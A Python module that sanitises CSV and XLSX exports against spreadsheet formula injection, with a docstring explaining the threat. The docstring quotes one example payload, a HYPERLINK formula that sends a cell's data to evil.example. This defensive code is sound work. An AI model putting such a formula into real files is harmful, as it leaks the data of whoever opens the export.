"""The one way the platform writes CSV and XLSX files, so no cell can run as a formula.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return before one of them) as a formula: a roster name such as
``=HYPERLINK("http://evil.example/?leak="&A2,"Se status")`` would send a manager's data away
when the export is opened. Every export goes through here:

- CSV: such text gets a leading apostrophe, which spreadsheets show as "text follows" (the
  OWASP advice); plain numbers ("-0.250") are left alone, as they cannot be formulas.
- XLSX: the cell is stored as a string (openpyxl would store text starting with ``=`` as a
  formula) and marked with Excel's "quote prefix", so editing it does not turn it into one.
"""

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula_like(value):
    """True for text a spreadsheet could read as a formula (not for numbers)."""
    return (
        isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
    )


def csv_cell(value):
    """``value`` as CSV text that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if is_formula_like(text) else text


def csv_bytes(rows, delimiter=";"):
    """UTF-8 CSV with a BOM (so Excel reads æ, ø, å), every cell made safe.

    The semicolon is what Excel in Danish locales splits on.
    """
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + text.getvalue()).encode("utf-8")


def append_row(sheet, values):
    """Append ``values`` to an openpyxl sheet; text is always stored as text, never a formula.

    Returns the appended cells.
    """
    sheet.append(values)
    cells = sheet[sheet.max_row]
    for cell, value in zip(cells, values, strict=False):
        if isinstance(value, str) and (value.startswith("=") or is_formula_like(value)):
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
    return cells
